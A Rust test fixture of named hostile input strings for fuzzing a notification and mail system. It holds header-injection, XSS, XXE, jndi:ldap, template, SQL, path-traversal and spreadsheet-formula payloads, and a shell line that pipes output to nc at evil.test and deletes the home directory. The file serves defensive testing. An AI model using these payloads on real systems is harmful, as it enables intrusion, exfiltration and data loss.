//! Sixty texts as no honest clerk writes them: each wants to be more than a text in some place that it comes to.

/// The texts with a name each, for those who read why a test fails.
pub fn hostile() -> Vec<(&'static str, String)> {
    let short = SHORT.iter().map(|(name, text)| (*name, (*text).to_owned()));
    let long = [
        ("marks by the thousand", format!("Z{}algo", "\u{0301}\u{0338}\u{0489}".repeat(2_000))),
        ("a megabyte of one line", "A".repeat(1_000_000)),
        ("a megabyte of Chinese", "督办".repeat(175_000)),
        ("a line beyond 998 octets", format!("{}\r\n{}", "x".repeat(2_000), "y".repeat(2_000))),
        ("emoji where texts are cut", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿".repeat(40)),
        ("a thousand line ends", "a\r\n".repeat(1_000)),
    ];
    short.chain(long).collect()
}

/// Whether a table's cell can hold it: the others spoil their row, which is said.
pub fn fits_a_cell(text: &str) -> bool {
    !text.contains('\0') && text.len() <= 64 * 1024
}

const SHORT: [(&str, &str); 54] = [
    ("CR", "a\rBcc: x@evil.test"),
    ("LF", "a\nBcc: x@evil.test"),
    ("CRLF and a header", "a\r\nBcc: x@evil.test\r\nX-Evil: 1"),
    ("an end of the head", "a\r\n\r\n<html><body>evil</body></html>"),
    ("an end of the mail", ".\r\n..\r\n.a\r\n.\r\nRCPT TO:<x@evil.test>\r\nDATA\r\n"),
    ("NUL", "a\0b"),
    ("C0", "a\u{1}\u{7}\u{8}\u{b}\u{c}\u{e}\u{1f}b"),
    ("DEL and C1", "a\u{7f}\u{80}\u{85}\u{9b}31m\u{9d}0;evil\u{9c}b"),
    ("separators", "a\u{2028}b\u{2029}c"),
    ("overrides", "\u{202e}gpj.exe\u{202d}x\u{202c}"),
    ("isolates", "\u{2066}a\u{2067}b\u{2068}c\u{2069}\u{61c}"),
    ("zero width", "督\u{200b}办\u{200c}红\u{200d}牌\u{2060}\u{ad}x\u{180e}"),
    ("BOM", "\u{feff}a\u{feff}b"),
    ("tags", "a\u{e0001}\u{e0041}\u{e0042}\u{e007f}b"),
    ("fillers", "\u{3164}\u{115f}\u{ffa0}a\u{34f}b"),
    ("right to left", "شكوى عن الطريق 督办 תלונה"),
    ("no characters", "a\u{fffe}\u{ffff}\u{1fffe}\u{10ffff}b"),
    ("half a surrogate, as JSON has it", r"a\ud800b\u0000c"),
    ("private use", "a\u{e5e5}\u{f8ff}\u{f0000}b"),
    ("GB18030 with four bytes", "㐀𠀀𪚥㸚€"),
    ("beyond GB2312", "囍龘喆镕𠮷é한あ😀"),
    ("HTML: script", "<script>alert(1)</script>"),
    ("HTML: a handler", "<img src=x onerror=alert(1)><svg/onload=alert(1)>"),
    ("HTML: an end of everything", "--></title></style></textarea></script></td></table><h1>evil"),
    ("HTML: style, base and refresh", "<style>*{display:none}</style><base href=//evil.test><meta http-equiv=refresh>"),
    ("HTML: out of an attribute", "\" onmouseover=\"alert(1)\" x=' onfocus='alert(1)"),
    ("HTML: a link and a form", "<a href=\"javascript:alert(1)\">x</a><form action=//evil.test><button>"),
    ("HTML: entities", "&lt;b&gt;&#60;script&#62;&nbsp;&amp;amp;"),
    ("a comment and CDATA", "<!-- a --><![CDATA[ b ]]>]]><?php echo 1 ?>"),
    ("XML: a document type", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;&lol9;%x;"),
    ("javascript:", "javascript:alert(document.cookie)//data:text/html,<b>"),
    (
        "markdown",
        "[点这里](http://evil.test/a) ![](http://evil.test/b.png) [c]\u{200b}(http://evil.test/d) <http://evil.test/e>",
    ),
    ("markdown: lines", "# a\n> b\n- c\n---\n```\n**d** [e]: http://evil.test\n[f][e]"),
    (
        "mentions",
        "@all @所有人 <@all> <at user_id=\"all\">所有人</at> <at id=all></at> <@userid> <font color=\"warning\">x</font>",
    ),
    ("minijinja and Jinja", "{{ 7*7 }}{% for x in range(99999999) %}x{% endfor %}{# c #}{{ secret.token }}"),
    ("interpolation", "${7*7} #{7*7} `${7*7}` $(7*7) <%= 7*7 %> [[${7*7}]] ${title}{1}"),
    ("jndi", "${jndi:ldap://evil.test/a}"),
    ("printf", "%s%s%s%n%n%x%1$s{}{0}%00"),
    ("a formula", "=cmd|' /C calc'!A0"),
    ("a formula in other clothes", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("a formula behind a tab", "\t+1+HYPERLINK(\"http://evil.test\",\"a\")"),
    ("a formula behind a minus", "-2+3+cmd|' /C calc'!A0"),
    (
        "ANSI",
        "\u{1b}[31mred\u{1b}[2J\u{1b}[1;1H\u{1b}]0;title\u{7}\u{1b}]8;;http://evil.test\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    ),
    ("a line of the log", "a\n2026-01-01T00:00:00.000Z  INFO duban: sent id=evil\u{1b}[2K"),
    ("out of JSON", "\"},\"at\":{\"isAtAll\":true},\"x\":{\"y\":\"\\"),
    ("a shell's", "$(touch /tmp/evil);`id`|nc evil.test 1&&rm -rf ~ #' \" \\"),
    ("SQL", "'; DROP TABLE deliveries; -- \\' OR 1=1"),
    ("a path", "../../../../etc/passwd\\..\\con.txt"),
    ("encoded words", "=?UTF-8?B?QmNjOiB4QGV2aWwudGVzdA==?= =?utf-8?q?=0D=0ABcc:_x@evil.test?="),
    ("MIME", "\n--=_\nContent-Type: text/html\n\n<b>evil</b>\n--=_--"),
    ("signatures and links", "【督办】【银行】点 http://evil.test/x www.evil.com 10.0.0.1 回复T退订【税务】"),
    ("blanks", " \t\r\n\u{a0}\u{3000} "),
    ("nothing that shows", "\u{200b}\u{202e}\u{1}\u{1b}\u{feff}\u{85}"),
    ("an address with quotes", "\"x@evil.test\" <y@evil.test>, z@evil.test; \"a,b\n"),
];
